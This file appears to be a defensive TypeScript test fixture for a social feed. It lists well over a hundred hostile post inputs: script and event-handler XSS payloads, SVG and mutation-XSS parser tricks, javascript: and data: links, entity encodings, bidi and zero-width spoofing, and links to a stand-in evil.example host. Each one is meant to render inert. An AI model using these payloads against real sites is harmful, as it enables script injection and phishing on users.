/**
 * Hostile inputs for the feed: what people could write to make a post run script, load something,
 * escape its box, or pass one link or person off as another. `hostile.test.ts` writes every entry
 * through the real API and renders it in the real (windowed) feed. Test-only: never imported by
 * the elements.
 *
 * Every payload that could run sets `window.__xss` (or `parent.__xss`), the canary the test reads.
 */

export interface HostileInput {
  /** What it tries. */
  name: string;
  text: string;
  /**
   * When set: exactly what the entry's text part must show (its `textContent`, after the server
   * trimmed the text). Payloads without formatting show exactly what was typed.
   */
  shows?: string;
  /** The server must refuse it: `400` (over 20,000 characters) or `413` (a body over 128 KiB). */
  refused?: boolean;
}

/** An entry that must show exactly what was typed. */
const literal = (name: string, text: string): HostileInput => ({ name, text, shows: text });
const entry = (name: string, text: string, shows?: string): HostileInput => (shows === undefined ? { name, text } : { name, text, shows });

const PAYLOAD = '<img src=x onerror=window.__xss=1><script>window.__xss=2</script>[x](javascript:window.__xss=3)';

/** Close to the server's 20,000-character limit, and made of nothing but trouble. */
const nearLimit = (() => {
  const unit = `${PAYLOAD} **<svg onload=window.__xss=4>** \u202E \`<iframe>\` `;
  let text = '';
  while (text.length + unit.length < 19_990) text += unit;
  return text;
})();

export const HOSTILE_CORPUS: readonly HostileInput[] = [
  // —— script elements ——
  literal('script tag', '<script>window.__xss=1</script>'),
  literal('script with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
  literal('script src data', '<script/src=data:,window.__xss=1></script>'),
  literal('split script tag', '<scr<script>ipt>window.__xss=1</scr</script>ipt>'),
  literal('doubled brackets', '<<script>script>window.__xss=1<</script>/script>'),
  literal('unclosed script', '<script>window.__xss=1//'),
  literal('module script', '<script type="module">window.__xss=1</script>'),
  literal('breaking out of a title', '</title><script>window.__xss=1</script>'),
  literal('breaking out of a textarea', '</textarea><script>window.__xss=1</script>'),
  literal('breaking out of an attribute', '"><script>window.__xss=1</script>'),
  literal('breaking out of a single-quoted attribute', "'><script>window.__xss=1</script>"),
  entry('script hidden in a comment opener', '<script>/*</script><script>*/window.__xss=1</script>'),

  // —— event-handler attributes, in every common form ——
  literal('onerror unquoted', '<img src=x onerror=window.__xss=1>'),
  literal('onerror double-quoted', '<img src="x" onerror="window.__xss=1">'),
  literal('onerror single-quoted', "<img src='x' onerror='window.__xss=1'>"),
  entry('onerror backtick-quoted', '<img src=x onerror=`window.__xss=1`>', '<img src=x onerror=window.__xss=1>'),
  literal('slashes instead of spaces', '<img/src=x/onerror=window.__xss=1>'),
  literal('upper case', '<IMG SRC=x ONERROR=window.__xss=1>'),
  literal('mixed case', '<img src=x oNeRrOr=window.__xss=1>'),
  entry('newline before the handler', '<img src=x\nonerror=window.__xss=1>', '<img src=xonerror=window.__xss=1>'),
  literal('tab before the handler', '<img src=x\tonerror=window.__xss=1>'),
  literal('entity-encoded equals sign', '<img src=x onerror&#61;window.__xss=1>'),
  literal('entity-encoded handler body', '<img src=x onerror=&#119;indow.__xss=1>'),
  literal('eval of src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'),
  literal('unterminated img', '<img src=x onerror=window.__xss=1'),
  literal('doubled opening bracket', '<<img src=x onerror=window.__xss=1>'),
  literal('comment hiding the handler', '<!--<img src="--><img src=x onerror=window.__xss=1//">'),
  literal('empty attributes before the handler', '<img """><script>window.__xss=1</script>">'),
  literal('body onload', '<body onload=window.__xss=1>'),
  literal('body onpageshow', '<body onpageshow=window.__xss=1>'),
  literal('svg onload', '<svg onload=window.__xss=1>'),
  literal('svg/onload', '<svg/onload=window.__xss=1>'),
  literal('details ontoggle', '<details open ontoggle=window.__xss=1>'),
  literal('input autofocus onfocus', '<input autofocus onfocus=window.__xss=1>'),
  literal('select autofocus onfocus', '<select autofocus onfocus=window.__xss=1>'),
  literal('textarea autofocus onfocus', '<textarea autofocus onfocus=window.__xss=1>'),
  literal('keygen autofocus onfocus', '<keygen autofocus onfocus=window.__xss=1>'),
  literal('video source onerror', '<video><source onerror=window.__xss=1>'),
  literal('audio onerror', '<audio src=x onerror=window.__xss=1>'),
  literal('marquee onstart', '<marquee onstart=window.__xss=1>'),
  literal('div onmouseover', '<div onmouseover=window.__xss=1>hover me</div>'),
  literal('a onclick', '<a onclick=window.__xss=1>click me</a>'),
  literal('button onclick', '<button onclick="window.__xss=1">ok</button>'),
  literal('onanimationstart', '<div style="animation-name:x" onanimationstart=window.__xss=1>'),
  literal('onpointerenter', '<p onpointerenter=window.__xss=1>'),
  literal('custom element contenteditable onclick', '<x onclick=window.__xss=1 contenteditable>edit</x>'),
  literal('svg animate onbegin', '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>'),
  literal('svg set onbegin', '<svg><set onbegin=window.__xss=1 attributeName=x to=1>'),

  // —— elements that load or navigate ——
  literal('iframe javascript src', '<iframe src="javascript:window.__xss=1">'),
  literal('iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>">'),
  literal('object data', '<object data="javascript:window.__xss=1">'),
  literal('embed src', '<embed src="javascript:window.__xss=1">'),
  literal('embed base64 html', '<embed src=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==>'),
  literal('form button formaction', '<form><button formaction=javascript:window.__xss=1>x</button></form>'),
  literal('isindex action', '<isindex action=javascript:window.__xss=1 type=image>'),
  literal('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'),
  literal('base href', '<base href="javascript:/">'),
  literal('link stylesheet', '<link rel=stylesheet href=javascript:window.__xss=1>'),
  literal('css url()', '<div style="background:url(javascript:window.__xss=1)">'),
  literal('css expression()', '<div style="width: expression(window.__xss=1)">'),
  literal('raw anchor', '<a href="javascript:window.__xss=1">click</a>'),

  // —— SVG ——
  literal('svg script', '<svg><script>window.__xss=1</script></svg>'),
  literal('svg xlink javascript', '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">click</text></a></svg>'),
  literal('svg foreignObject iframe', '<svg><foreignObject><iframe src="javascript:window.__xss=1"></iframe></foreignObject></svg>'),
  entry('svg use data URL', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='window.__xss=1'/></svg>#x"/></svg>`),
  literal('svg style import', "<svg><style>@import 'javascript:window.__xss=1';</style></svg>"),
  literal('svg CDATA', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=window.__xss=1>"></svg>'),

  // —— mutation XSS: parser confusions ——
  literal('noscript title', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'),
  literal('math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>'),
  literal('svg p style', '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">'),
  literal('form math confusion', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>'),
  literal('template script', '<template><script>window.__xss=1</script></template>'),
  literal('style self-closing', '<style><style/><img src=x onerror=window.__xss=1>'),
  literal('math style', '<math><style><img src=x onerror=window.__xss=1></style></math>'),
  literal('xmp', '<xmp><img src=x onerror=window.__xss=1></xmp>'),
  literal('listing entities', '<listing>&lt;img src=x onerror=window.__xss=1&gt;</listing>'),
  literal('noembed in table', '<table><td><noembed><img src=x onerror=window.__xss=1></noembed>'),
  literal('form attribute from outside', '<div id="1"><form id="test"></form><button form="test" formaction="javascript:window.__xss=1">X</button>'),
  literal('CDATA in HTML', '<![CDATA[<img src=x onerror=window.__xss=1>]]>'),

  // —— HTML entities and encodings (shown as typed, never decoded) ——
  literal('named entities', '&lt;script&gt;window.__xss=1&lt;/script&gt;'),
  literal('decimal entities', '&#60;img src=x onerror=window.__xss=1&#62;'),
  literal('hex entities', '&#x3C;svg onload=window.__xss=1&#x3E;'),
  literal('quoted entities', '&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;'),
  literal('double-encoded', '&amp;lt;script&amp;gt;'),
  literal('JavaScript escapes', '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e'),
  literal('percent-encoded', '%3Cscript%3Ewindow.__xss=1%3C/script%3E'),
  literal('template injection', "{{constructor.constructor('window.__xss=1')()}}"),
  literal('template literal injection', '${window.__xss=1}'),

  // —— javascript:, data:, vbscript: and other links in markdown ——
  literal('markdown javascript', '[click](javascript:window.__xss=1)'),
  literal('markdown JAVASCRIPT', '[click](JAVASCRIPT:window.__xss=1)'),
  literal('markdown javascript&colon;', '[click](javascript&colon;window.__xss=1)'),
  literal('markdown entity-encoded scheme', '[click](&#106;avascript:window.__xss=1)'),
  literal('markdown percent-encoded body', '[click](javascript:%77indow.__xss=1)'),
  literal('markdown javascript comment trick', '[click](javascript://example.com/%0Awindow.__xss=1)'),
  literal('markdown leading space', '[click]( javascript:window.__xss=1)'),
  literal('markdown tab in scheme', '[click](java\tscript:window.__xss=1)'),
  literal('markdown angle brackets', '[click](<javascript:window.__xss=1>)'),
  literal('markdown data base64', '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)'),
  literal('markdown data html', '[click](data:text/html,<script>parent.__xss=1</script>)'),
  literal('markdown vbscript', '[click](vbscript:msgbox(1))'),
  literal('markdown protocol-relative', '[click](//evil.example/steal)'),
  literal('markdown relative', '[click](/relative/path)'),
  literal('markdown file', '[click](file:///etc/passwd)'),
  literal('markdown credentials', '[bank](https://bank.example@evil.example/login)'),
  literal('markdown attribute break', '[click](https://evil.example" onmouseover="window.__xss=1)'),
  literal('markdown reference link', '[click][ref] [ref]: javascript:window.__xss=1'),
  literal('markdown image javascript', '![x](javascript:window.__xss=1)'),
  entry('markdown image https', '![x](https://evil.example/pixel.png)', '!x'),
  literal('image in link', '[![img](x)](javascript:window.__xss=1)'),
  literal('mention in a javascript link', '[@ana@seller.test](javascript:window.__xss=1)'),

  // —— bare links ——
  literal('bare javascript', 'javascript:window.__xss=1'),
  literal('bare JaVaScRiPt', 'jAvAsCrIpT:window.__xss=1'),
  literal('bare data', 'data:text/html,<script>parent.__xss=1</script>'),
  literal('bare vbscript', 'vbscript:msgbox(1)'),
  literal('bare URL breaking into markup', 'https://evil.example/"><img src=x onerror=window.__xss=1>'),
  literal('bare URL with script path', 'http://evil.example/<script>window.__xss=1</script>'),
  literal('bare mailto with markup', 'mailto:someone@example.com?body=<script>window.__xss=1</script>'),
  literal('bare URL with credentials', 'https://bank.example@evil.example/login'),
  entry('international look-alike host', 'https://аpple.example/login', 'https://xn--pple-43d.example/login'),

  // —— bidi and zero-width tricks ——
  entry('RLO in a link label', '[\u202Egoogle.com](https://evil.example)', 'U+202Egoogle.com (evil.example)'),
  entry('RLO file name', 'invoice\u202Efdp.exe', 'invoiceU+202Efdp.exe'),
  entry('zero-width space in a label', '[pay\u200Bpal.example](https://evil.example/login)', 'payU+200Bpal.example (evil.example)'),
  literal('zero-width space in a would-be mention', '@ana\u200B@seller.test please approve'),
  entry('isolates around a link', '\u2066[safe](https://example.com)\u2069', 'U+2066safeU+2069'),
  entry('RLM in a URL label', '[\u200Fhttps://bank.example](https://evil.example)', 'U+200Fhttps://bank.example (evil.example)'),
  entry('RLO in a bare URL', 'https://example.com/\u202E/moc.live', 'https://example.com/U+202E/moc.live'),
  entry('tag characters in a label', '[ok\u{E0041}\u{E0042}](https://example.com)', 'okU+E0041U+E0042'),
  entry('LRE and PDF', 'a\u202Ab\u202Cc', 'aU+202AbU+202Cc'),
  entry('label naming another host', '[https://bank.example/login](https://evil.example/login)', 'https://bank.example/login (evil.example)'),

  // —— link in link ——
  entry('link in a link', '[[inner](https://a.example)](https://b.example)', '[inner](https://b.example)'),
  entry('link in the middle of a label', '[a [b](https://c.example) d](https://e.example)', '[a b d](https://e.example)'),
  entry('code in a label', '[`<script>`](https://example.com)', '<script>'),
  entry('bold in a label', '[**bold** <img src=x onerror=window.__xss=1>](https://example.com)', 'bold <img src=x onerror=window.__xss=1>'),

  // —— formatting around payloads, and formatting abuse ——
  entry('bold payload', '**<img src=x onerror=window.__xss=1>**', '<img src=x onerror=window.__xss=1>'),
  entry('italic payload', '*<svg onload=window.__xss=1>*', '<svg onload=window.__xss=1>'),
  entry('code payload', '`<iframe src=javascript:window.__xss=1>`', '<iframe src=javascript:window.__xss=1>'),
  entry('list of payloads', '- <script>window.__xss=1</script>\n- <img src=x onerror=window.__xss=1>', '<script>window.__xss=1</script><img src=x onerror=window.__xss=1>'),
  entry('numbered list of payloads', '1. [x](javascript:window.__xss=1)\n2. **<svg onload=window.__xss=1>**', '[x](javascript:window.__xss=1)<svg onload=window.__xss=1>'),
  entry('fenced code block', '```html\n<script>window.__xss=1</script>\n```', '<script>window.__xss=1</script>'),
  entry('unclosed fence', '```\n<img src=x onerror=window.__xss=1>', '<img src=x onerror=window.__xss=1>'),
  literal('three stars', '***bold italic***'),
  literal('two thousand double stars', '**'.repeat(2_000)),
  literal('five thousand stars', '*'.repeat(5_000)),
  literal('three thousand backticks', '`'.repeat(3_000)),
  entry('alternating unclosed markers', '**a *b '.repeat(1_000).trim()),
  entry('three hundred levels of nesting', `${'**a *b '.repeat(150)}x${' b* a**'.repeat(150)}`),
  entry('two thousand unclosed links', '[a]('.repeat(2_000)),
  entry('three thousand brackets', '['.repeat(3_000)),

  // —— very long words ——
  literal('ten thousand letters', 'A'.repeat(10_000)),
  literal('a URL longer than any link', `https://example.com/${'a'.repeat(2_500)}`),
  literal('four thousand emoji', '😀'.repeat(4_000)),
  literal('zalgo', `Z${'\u0336'.repeat(3_000)}`),

  // —— mentions mixed with payloads ——
  entry('mention next to a payload', '@ana@seller.test <img src=x onerror=window.__xss=1>'),
  entry('unknown mention', '@ghost@nowhere.test <script>window.__xss=1</script>', '@ghost@nowhere.test <script>window.__xss=1</script>'),

  // —— sizes ——
  entry('near the 20,000-character limit', nearLimit),
  { name: 'one character over the limit', text: 'x'.repeat(20_001), refused: true },
  { name: 'a body over 128 KiB', text: '<script>window.__xss=1</script>'.repeat(4_300), refused: true },
];
